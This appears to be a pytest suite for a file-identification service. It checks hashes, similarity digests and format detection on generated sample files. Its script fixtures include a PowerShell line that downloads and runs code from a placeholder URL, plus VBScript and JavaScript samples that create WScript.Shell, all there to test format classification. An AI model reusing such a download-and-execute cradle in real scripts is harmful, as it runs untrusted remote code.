"""What a file is, told from real files through the same worker processes that uploads use."""

import gzip
import hashlib
import importlib.util
import io
import os
import re
import sqlite3
import subprocess
import sys
import tarfile
import zipfile
from pathlib import Path

import pytest

from dispatcher.streams.identify import Identifier, builtin_enrichers, identify_file, missing_parsers
from dispatcher.streams.parsers import libmagic

NO_TLSH = any(hint.startswith("tlsh") for hint in missing_parsers())


@pytest.fixture(scope="module")
def identify():
    with Identifier() as identifier:
        yield identifier


def test_an_interpreter(identify):
    found = identify(Path(sys.executable))
    body = Path(sys.executable).read_bytes()
    assert (found.size, found.sha256) == (len(body), hashlib.sha256(body).hexdigest())
    assert (found.md5, found.sha1) == (hashlib.md5(body).hexdigest(), hashlib.sha1(body).hexdigest())
    assert found.sha512 == hashlib.sha512(body).hexdigest()
    assert found.file_format.startswith("executable/")
    assert found.identify_version == 2
    assert re.fullmatch(r"\d+:[\w+/]+:[\w+/]+", found.ssdeep)


@pytest.mark.skipif(NO_TLSH, reason="needs the tlsh extra")
def test_tlsh_of_a_real_file(identify):
    assert re.fullmatch("T1[0-9a-f]{70}", identify(Path(sys.executable)).tlsh)


def test_a_module_of_the_library(identify):
    found = identify(Path(os.__file__))
    assert (found.file_format, found.file_extension) == ("code/python", "py")
    assert found.mime.startswith("text/")


def zip_of_a_module() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.write(os.__file__, "os.py")
    return buffer.getvalue()


def tar_of_a_module() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        archive.add(os.__file__, "os.py")
    return buffer.getvalue()


def database() -> bytes:
    connection = sqlite3.connect(":memory:")
    connection.execute("CREATE TABLE t(x)")
    body = connection.serialize()
    connection.close()
    return body


MADE = {
    "zip": (zip_of_a_module, "archive/zip"),
    "gz": (lambda: gzip.compress(Path(os.__file__).read_bytes()), "archive/gzip"),
    "tar": (tar_of_a_module, "archive/tar"),
    "db": (database, "db/sqlite"),
    "txt": (lambda: b"A note without any code in it.\nIt is meant for people, not for machines.\n", "text/plain"),
    "csv": (lambda: b"name,size\nos.py,39\nre.py,17\nast.py,64\n" * 3, "text/csv"),
    "json": (lambda: b'{"a": [1, 2, {"b": null}]}', "text/json"),
    "html": (lambda: b"<!DOCTYPE html><html><head><title>x</title></head><body></body></html>", "code/html"),
    "xml": (lambda: b'<?xml version="1.0"?><a><b/></a>', "code/xml"),
    "sh": (lambda: b"#!/bin/sh\nset -e\necho hello\n", "code/shell"),
    "rtf": (lambda: rb"{\rtf1\ansi hello}", "document/office/rtf"),
    "pdf": (lambda: b"%PDF-1.5\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n", "document/pdf"),
}


@pytest.mark.parametrize("extension", MADE)
def test_common_formats(identify, tmp_path, extension):
    make, file_format = MADE[extension]
    path = tmp_path / "sample"
    path.write_bytes(make())
    found = identify(path)
    assert (found.file_format, found.file_extension) == (file_format, extension)


SCRIPTS = {
    "code/ps1": b"""$client = New-Object System.Net.WebClient
if ($client -ne $null) { Invoke-Expression $client.DownloadString('http://x/y') }
""",
    "code/batch": b"@echo off\r\nsetlocal\r\nset PATH=%PATH%;C:\\x\r\nif exist foo.txt goto end\r\n:end\r\n",
    "code/vbs": b"""Option Explicit
Dim shell
Set shell = CreateObject("WScript.Shell")
shell.Run "calc.exe"
""",
    "code/javascript": b"""var shell = new ActiveXObject("WScript.Shell");
function go(a, b) { return a === b; }
go(1, 2);
""",
    "code/python": b"""async def main(path: str) -> None:
    data = open(path).read()
    if data:
        print(data)


class Thing:
    pass
""",
    "code/shell": b"""for name in *.txt; do
  if [ -f "$name" ]; then
    mv "$name" "${name%.txt}.bak"
  fi
done
""",
    "code/html": b"  some words first\n<body onload='x()'><iframe src=x></iframe></body>",
    "code/hta": b"words\n<hta:application id=x>\n",
    "code/sql": b"INSERT INTO accounts (name) VALUES ('x');\nSELECT name FROM accounts;\nDROP TABLE accounts;\n",
}


@pytest.mark.parametrize("file_format", SCRIPTS)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_scripts_that_libmagic_calls_text(identify, tmp_path, file_format, encoding):
    path = tmp_path / "script"
    path.write_bytes(SCRIPTS[file_format].decode().encode(encoding))
    assert identify(path).file_format == file_format


def test_prose_about_code_stays_prose(identify, tmp_path):
    path = tmp_path / "note"
    path.write_text("In Python you write def to define a function,\nand in a shell you write if and then fi.\n" * 20)
    assert identify(path).file_format == "text/plain"


def test_an_empty_file(identify, tmp_path):
    path = tmp_path / "empty"
    path.touch()
    found = identify(path)
    assert (found.mime, found.magic, found.file_format) == ("inode/x-empty", "empty", "unknown")
    assert (found.size, found.file_extension, found.ssdeep, found.tlsh) == (0, "", "", "")


@pytest.mark.parametrize(
    ("size", "has_ssdeep", "has_tlsh"), [(50, False, False), (4095, False, True), (4096, True, True)]
)
def test_similarity_hashes_begin_where_the_original_begins(identify, tmp_path, size, has_ssdeep, has_tlsh):
    path = tmp_path / "sample"
    path.write_bytes(Path(os.__file__).read_bytes()[:size])
    found = identify(path)
    assert bool(found.ssdeep) is has_ssdeep
    if NO_TLSH:
        assert found.tlsh == ""
    else:
        assert bool(found.tlsh) is has_tlsh


def test_the_originals_ssdeep_vector(identify, tmp_path):
    path = tmp_path / "text"
    path.write_bytes(b"This is some test text data.\n" * 795)
    assert re.fullmatch("12:hs6+2:o", identify(path).ssdeep)


def test_random_bytes_are_unknown(identify, tmp_path):
    path = tmp_path / "noise"
    path.write_bytes(b"\xfe\xed\x00\x01" + hashlib.sha512(b"seed").digest() * 40)
    found = identify(path)
    assert found.file_format == "unknown"
    assert found.mime == "application/octet-stream"


def test_words_from_the_file_are_ascii(identify, tmp_path):
    path = tmp_path / "archive.gz"
    path.write_bytes(
        b"\x1f\x8b\x08\x08\x00\x00\x00\x00\x00\x03" + "naïve-é".encode() + b"\xff\x00" + b"\x03\x00" + bytes(8)
    )
    magic = identify(path).magic
    assert magic.isascii()
    assert "na.ve-.." in magic


def test_a_file_that_is_not_there(identify, tmp_path):
    with pytest.raises(FileNotFoundError):
        identify(tmp_path / "missing")


def test_one_file_alone():
    assert identify_file(Path(os.__file__)).file_format == "code/python"


@pytest.mark.skipif(sys.platform != "linux", reason="chooses a library by LD_LIBRARY_PATH")
def test_pips_libmagic_is_used_where_the_system_has_an_old_one(tmp_path):
    """pip's own library plays the old system library here."""
    script = (
        "import dispatcher.streams.parsers.libmagic as l, os\n"
        "print(l.system_version(), *l.describe(os.__file__, mime=True))\n"
        "import magic\n"
        "print('pylibmagic' in open('/proc/self/maps').read(), magic.version())\n"
    )
    folder = importlib.util.find_spec("pylibmagic").submodule_search_locations[0]
    run = subprocess.run(
        [sys.executable, "-c", script],
        env=os.environ | {"LD_LIBRARY_PATH": folder},
        capture_output=True,
        text=True,
        check=True,
    )
    system, mime, found, version = run.stdout.split()
    assert int(system) < libmagic.MIN_VERSION
    assert mime.startswith("text/")
    assert (found, version) == ("True", system)


def test_an_operators_magic_file_is_used_by_workers(tmp_path, monkeypatch):
    """Images and hosts whose libmagic lies in an unusual place say so with MAGIC, as for `file`."""
    (tmp_path / "own").write_text("0\tstring\tAZUL\tour own kind of file\n")
    (tmp_path / "sample").write_bytes(b"AZUL" + bytes(100))
    monkeypatch.setenv("MAGIC", str(tmp_path / "own"))
    assert identify_file(tmp_path / "sample").magic == "our own kind of file"


def test_every_parser_is_there_or_has_a_hint():
    names = {enricher.name for enricher in builtin_enrichers()} | {hint.split(":")[0] for hint in missing_parsers()}
    assert {"identify", "ssdeep", "tlsh"} <= names
